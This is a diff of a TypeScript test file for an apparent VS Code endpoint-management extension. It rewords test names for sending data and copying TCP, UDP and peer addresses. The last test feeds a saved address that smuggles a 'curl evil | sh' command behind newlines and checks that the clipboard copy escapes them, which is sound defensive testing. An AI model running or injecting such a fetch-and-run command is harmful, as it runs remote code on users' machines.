@@ -8,7 +8,7 @@ import { freshVscode } from '../../../support/fakeVscode/freshVscode.ts';
 import { questions } from '../../../support/fakeVscode/questions.ts';
 import { workbenchState } from '../../../support/fakeVscode/workbenchState.ts';
 
-describe('commands on an endpoint', () => {
+describe('endpoint commands', () => {
   freshVscode();
 
   let sent: unknown[];
@@ -37,7 +37,7 @@ describe('commands on an endpoint', () => {
     ]);
   });
 
-  it('send either text or hex, and nothing that can’t be read', async () => {
+  it('send either text or hex, and nothing invalid', async () => {
     await assert.rejects(send({ endpoint: 'e', data: 'a', hex: '61' }, context), /Specify either data or hex\./);
     await assert.rejects(send({ endpoint: 'e', hex: '6g' }, context), RangeError);
     await assert.rejects(send({ endpoint: 'none', data: 'a' }, context), { code: 'NO_ENDPOINT' });
@@ -46,7 +46,7 @@ describe('commands on an endpoint', () => {
     assert.deepEqual(sent, []);
   });
 
-  it('ask for the text where they are run by hand', async () => {
+  it('ask for the text when run by the user', async () => {
     for (const argument of [undefined, { type: 'endpoint', endpoint: 'e' }]) {
       const sending = send(argument, context);
       (await questions.question('Text to send to all clients of mine')).answer('hi');
@@ -58,14 +58,14 @@ describe('commands on an endpoint', () => {
     ]);
   });
 
-  it('send to the peer whose row they are chosen for', async () => {
+  it('send to the peer of the row', async () => {
     const sending = send({ type: 'peer', endpoint: 'e', peer: { id: 'p7', address: '127.0.0.1:7' } }, context);
     (await questions.question('Text to send to 127.0.0.1:7')).answer('hi');
     await sending;
     assert.deepEqual(sent, [['e', 'hi', { peer: 'p7' }]]);
   });
 
-  it('copy the address that the endpoint has now', async () => {
+  it('copy the endpoint’s current address', async () => {
     const now = endpointSnapshot('e', 1, { address: 'tcp://127.0.0.1:40213' });
     Object.assign(endpoints, { now: async () => endpoints.change(now) });
     await copyAddress({ endpoint: 'e' }, context);
@@ -73,14 +73,14 @@ describe('commands on an endpoint', () => {
     assert.equal(workbenchState.said.shown.at(-1), 'Copied tcp://127.0.0.1:40213');
   });
 
-  it('copy where a UDP socket sends', async () => {
+  it('copy a UDP socket’s destination', async () => {
     const config = { kind: 'udp', address: ':0', remote: 'localhost:9' } as const;
     Object.assign(endpoints, { now: async () => endpoints.change(endpointSnapshot('e', 0, { config })) });
     await copyAddress({ endpoint: 'e' }, context);
     assert.equal(workbenchState.state.clipboard, 'udp://localhost:9');
   });
 
-  it('copy the address of a peer from its row, and from its menu in a panel', async () => {
+  it('copy a peer’s address from its row, and from its menu in a panel', async () => {
     const node = { type: 'peer', endpoint: 'e', peer: { id: 'p7', address: '127.0.0.1:7' } };
     await copyAddress(node, context);
     assert.equal(workbenchState.state.clipboard, '127.0.0.1:7');
@@ -89,7 +89,7 @@ describe('commands on an endpoint', () => {
     assert.equal(workbenchState.state.clipboard, '127.0.0.1:8');
   });
 
-  it('copy the address of a saved endpoint from its row', async () => {
+  it('copy a saved endpoint’s address from its row', async () => {
     const hostile = { config: { kind: 'tcp-client', address: 'unix:/tmp/a\ncurl evil | sh\n' } };
     await copyAddress({ type: 'saved', saved: hostile }, context);
     assert.equal(workbenchState.state.clipboard, 'unix:/tmp/a\\ncurl evil | sh\\n');
